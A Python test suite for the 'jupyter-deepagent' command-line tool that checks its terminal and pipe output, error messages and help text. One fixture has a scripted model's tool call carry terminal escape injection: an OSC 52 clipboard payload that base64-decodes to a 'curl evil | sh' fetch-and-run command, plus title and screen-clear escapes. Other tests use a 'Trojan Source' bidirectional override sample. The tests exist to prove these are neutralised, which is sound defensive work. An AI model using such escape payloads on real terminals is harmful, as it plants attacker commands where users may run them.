"""`jupyter-deepagent` reads well in a pipe and in a terminal: in a pipe no ANSI code and no
progress bar; in a pseudo-terminal colour and a bar, with the kernel's own lines above the bar,
never inside it; each error printed once, on one line, naming the failed cell as Lab shows it;
`--help` gives the exit codes and what is written; `verify` on a notebook without a research log
says so in one line. Real kernels, offline (a scripted model)."""

from __future__ import annotations

import fcntl
import os
import pty
import re
import select
import struct
import subprocess
import sys
import termios
import time
from pathlib import Path

import nbformat
import pytest

LOOPBACK_ONLY = pytest.mark.allow_hosts(["127.0.0.1"])
ESC = "\x1b"
SCRIPT = "profile: {max_input_tokens: 100000}\nscript:\n  - Twice x is 42.\n"
# the kernel process writes to its own stderr (as jupyter_client's TCP warning does), in red
KERNEL_LINE = 'import os\nos.write(2, b"\\x1b[31mkernel says hello\\x1b[0m\\n")'
FAILING = 'raise ValueError("\\x1b[31mbad\\x1b[0m reading")'


def _notebook(folder: Path, *sources: str) -> Path:
    folder.mkdir(exist_ok=True)
    (folder / "tiny.yaml").write_text(SCRIPT)
    book = nbformat.v4.new_notebook()
    book.cells = [nbformat.v4.new_code_cell(source) for source in sources]
    path = folder / "study.ipynb"
    nbformat.write(book, path)
    return path


def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
    drop = ("GOOGLE_API_KEY", "GEMINI_API_KEY", "JUPYTER_DEEPAGENT_REPLAY", "NO_COLOR", "TERM")
    env = {k: v for k, v in os.environ.items() if k not in drop}
    return {**env, "IPYTHONDIR": str(tmp_path / "ipython"), "TERM": "xterm", **extra}


def _in_a_pipe(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "jupyter_deepagent.cli", *args], capture_output=True, text=True,
        env=_env(tmp_path), timeout=300, check=False,
    )


def _in_a_terminal(tmp_path: Path, *args: str, **env: str) -> tuple[int, str]:
    """Run the command with stdout and stderr on a pseudo-terminal 100 columns wide; return its
    exit code and everything it wrote, as the terminal got it."""
    leader, follower = pty.openpty()
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 30, 100, 0, 0))
    process = subprocess.Popen(
        [sys.executable, "-m", "jupyter_deepagent.cli", *args], stdin=subprocess.DEVNULL,
        stdout=follower, stderr=follower, env=_env(tmp_path, **env),
    )
    os.close(follower)
    chunks, deadline = [], time.monotonic() + 300
    while time.monotonic() < deadline:
        ready, _, _ = select.select([leader], [], [], 1)
        if not ready:
            if process.poll() is not None:
                break
            continue
        try:
            data = os.read(leader, 65536)
        except OSError:  # the terminal closed: every writer has exited
            break
        if not data:
            break
        chunks.append(data)
    os.close(leader)
    return process.wait(30), b"".join(chunks).decode("utf-8", "replace")


def _segments(text: str) -> list[str]:
    """What a terminal shows between carriage returns and line breaks."""
    return [part for part in re.split(r"[\r\n]+", text) if part.strip()]


@LOOPBACK_ONLY
def test_in_a_pipe_no_ansi_no_bar_and_a_failing_plain_cell_is_named_once(tmp_path: Path) -> None:
    path = _notebook(tmp_path / "project", "%load_ext jupyter_deepagent", KERNEL_LINE,
                     "%%agent -m scripted:tiny.yaml\nWhat is twice x?", FAILING, "x = 1")

    ran = _in_a_pipe(tmp_path, "run", str(path))

    assert ran.returncode == 2
    assert ESC not in ran.stdout + ran.stderr
    assert "\r" not in ran.stderr  # no progress bar in a pipe
    assert "kernel says hello" in ran.stderr.splitlines()  # the kernel's line, on its own
    [error] = [line for line in ran.stderr.splitlines() if "ValueError" in line]  # once
    assert error.startswith('stopped at In [4] ("raise ValueError(')
    assert error.endswith(": ValueError: bad reading")  # its kernel colour codes stripped
    row = next(line for line in ran.stdout.splitlines() if "What is twice x?" in line)
    assert row.startswith("In [3] ") and " scripted " in row  # a scripted model, said so


@LOOPBACK_ONLY
def test_a_failing_agent_cell_is_one_line_printed_once(tmp_path: Path) -> None:
    path = _notebook(tmp_path / "project", "%load_ext jupyter_deepagent",
                     "%%agent -m google_genai:gemini-2.5-flash\nWhat is twice x?")

    ran = _in_a_pipe(tmp_path, "run", str(path))

    assert ran.returncode == 2
    errors = [line for line in ran.stderr.splitlines() if "MissingAPIKey" in line]
    assert len(errors) == 1
    assert errors[0].startswith('stopped at In [2] ("What is twice x?"): MissingAPIKey: ')
    assert "GOOGLE_API_KEY" in errors[0] and ".env" in errors[0]
    assert ran.stdout.count("MissingAPIKey") == 0  # stdout has the table only


@LOOPBACK_ONLY
def test_in_a_terminal_colour_and_a_bar_with_the_kernels_lines_above_it(tmp_path: Path) -> None:
    path = _notebook(tmp_path / "project", "%load_ext jupyter_deepagent", KERNEL_LINE,
                     "import time; time.sleep(0.5)", FAILING)

    code, shown = _in_a_terminal(tmp_path, "run", str(path))

    assert code == 2
    assert "cell/s" in shown or "s/cell" in shown  # the progress bar was drawn
    segments = _segments(shown)
    # the kernel's line is a line of its own (the bar cleared first), still in its colour
    [kernel] = [s for s in segments if "kernel says hello" in s]
    assert kernel.strip() == "\x1b[31mkernel says hello\x1b[0m"
    for line in segments:  # nor does any other kernel line (jupyter_client's) land in the bar
        if "[IPKernelApp]" in line or "Kernel is running" in line:
            assert line.lstrip().startswith(("[IPKernelApp]", "Kernel"))
    [error] = [s for s in segments if "ValueError" in s]
    assert "\x1b[31m" in error and "stopped at In [4] (" in error


@LOOPBACK_ONLY
def test_no_color_turns_the_colour_off_in_a_terminal(tmp_path: Path) -> None:
    path = _notebook(tmp_path / "project", FAILING)

    code, shown = _in_a_terminal(tmp_path, "run", str(path), "--no-progress", NO_COLOR="1")

    assert code == 2
    assert ESC not in shown
    assert 'stopped at In [1] ("raise ValueError(' in shown and ": ValueError: bad reading" in shown


def test_verify_on_a_notebook_without_a_log_says_so_in_one_line(tmp_path: Path) -> None:
    path = _notebook(tmp_path / "project", "%load_ext jupyter_deepagent",
                     "%%agent -m scripted:tiny.yaml\nWhat is twice x?")

    checked = _in_a_pipe(tmp_path, "verify", str(path))

    assert checked.returncode == 1
    [line] = checked.stdout.splitlines()
    assert line.startswith(f"{path} has no research log: study.ipynb.agentlog.jsonl is not beside")
    assert f"`jupyter-deepagent run {path}`" in line
    assert "does not exist" not in line and not checked.stderr


@pytest.mark.parametrize(
    ("text", "why"),
    [("{}", "ValidationError: Notebook could not be converted from version 1 to version 2"),
     ("[]", "AttributeError: 'list' object has no attribute 'get'"),
     ('{"cells": 5, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}', "TypeError"),
     ('{"cells": [{"cell_type": "code", "id": "a", "source": 1, "metadata": {}, "outputs": []}], '
      '"metadata": {}, "nbformat": 4, "nbformat_minor": 5}', "its cells are not a list"),
     ("[" * 100_000 + "]" * 100_000, "RecursionError")],
    ids=["no cells", "a list", "cells not a list", "a source not text", "nested too deep"],
)
def test_a_file_that_is_not_a_notebook_is_one_line_for_run_and_verify_and_unlabelled_for_log(
    tmp_path: Path, text: str, why: str
) -> None:
    # JSON, but nothing nbformat can convert: the log beside it is still readable
    path = tmp_path / "study.ipynb"
    path.write_text(text)
    shipped = Path(__file__).parents[1] / "notebooks" / "quickstart.ipynb.agentlog.jsonl"
    (tmp_path / "study.ipynb.agentlog.jsonl").write_bytes(shipped.read_bytes())

    checked = _in_a_pipe(tmp_path, "verify", str(path), "--chain-only")
    ran = _in_a_pipe(tmp_path, "run", str(path))
    logged = _in_a_pipe(tmp_path, "log", str(path))

    for done, said in ((checked, "cannot read the notebook"), (ran, "cannot run")):
        assert done.returncode == 2, done.stderr
        [line] = done.stderr.splitlines()
        assert line.startswith(f"{said} {path}: not a notebook nbformat can read ({why}")
    assert logged.returncode == 0, logged.stderr
    assert "Traceback" not in logged.stderr and "record 1" in logged.stdout


@pytest.mark.parametrize("command", ["run", "log", "verify"])
def test_help_gives_the_exit_codes_and_what_is_written(command: str, tmp_path: Path) -> None:
    helped = _in_a_pipe(tmp_path, command, "--help")

    assert helped.returncode == 0
    text = helped.stdout
    codes = text.split("exit codes:")[1].split("what it writes")[0]
    assert re.findall(r"^  ([0-9])  ", codes, re.MULTILINE) == (
        {"log": ["0", "1"], "run": ["0", "1", "2", "3"]}.get(command, ["0", "1", "2"]))
    assert "what it writes" in text
    if command == "run":
        assert "--output OUT.ipynb writes the executed notebook" in text
        assert "NOTEBOOK.agentlog.jsonl" in text and ".deepagent/" in text


ATTACK_SCRIPT = (
    "profile: {max_input_tokens: 100000}\nscript:\n"
    '  - tool_calls: [{name: grep, args: {pattern: "\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a'
    '\\e]0;owned\\a\\e[2Jx"}}]\n'
    "  - Searched.\n"
)


@LOOPBACK_ONLY
def test_escapes_the_model_wrote_reach_no_terminal_as_escapes(tmp_path: Path) -> None:
    # OSC 52 sets the clipboard of the terminal that prints it, OSC 0 its title, CSI 2J clears
    # it: a tool call's arguments are the model's to write, and `log` prints them
    path = _notebook(tmp_path / "project", "%load_ext jupyter_deepagent",
                     "%%agent -m scripted:attack.yaml\nSearch the notes.")
    (tmp_path / "project" / "attack.yaml").write_text(ATTACK_SCRIPT)
    assert _in_a_pipe(tmp_path, "run", str(path)).returncode == 0

    code, shown = _in_a_terminal(tmp_path, "log", str(path))
    piped = _in_a_pipe(tmp_path, "log", str(path), "--format", "json")

    assert code == 0
    assert "grep pattern=" in shown and "\\x1b]52;c;" in shown  # written out, visibly
    assert ESC not in shown and "\x07" not in shown
    assert piped.returncode == 0 and ESC not in piped.stdout and "\x07" not in piped.stdout
    assert "\\u001b]52" in piped.stdout  # JSON's own escape, still valid JSON


def test_a_colour_terminal_keeps_a_kernels_colours_and_nothing_else() -> None:
    from jupyter_deepagent.cli.terminal import Terminal

    class ColourTerminal:
        def isatty(self) -> bool:
            return True

    terminal = Terminal(ColourTerminal())  # type: ignore[arg-type]
    assert terminal.colour
    shown = terminal.text("\x1b[31mError\x1b[0m \x1b]52;c;eA==\x07 \x1b[8mhidden\x1b[0m \x9b2J")
    assert shown == "\x1b[31mError\x1b[0m  hidden\x1b[0m \\x9b2J"


def test_a_bidirectional_override_is_written_out_not_obeyed() -> None:
    from jupyter_deepagent.cli.terminal import visible, visible_json

    # "Trojan Source": U+202E shows the end of a line reversed, so shown code is not what runs
    shown = visible('access = "user\u202e \u2066# admin only\u2069 \u2066"')
    assert "\u202e" not in shown and "\\u202e" in shown and "\\u2066" in shown
    assert visible("نمی\u200cخواهم") == "نمی\u200cخواهم"  # Persian's joiner is text
    assert visible_json('"\u202e"') == '"\\u202e"'
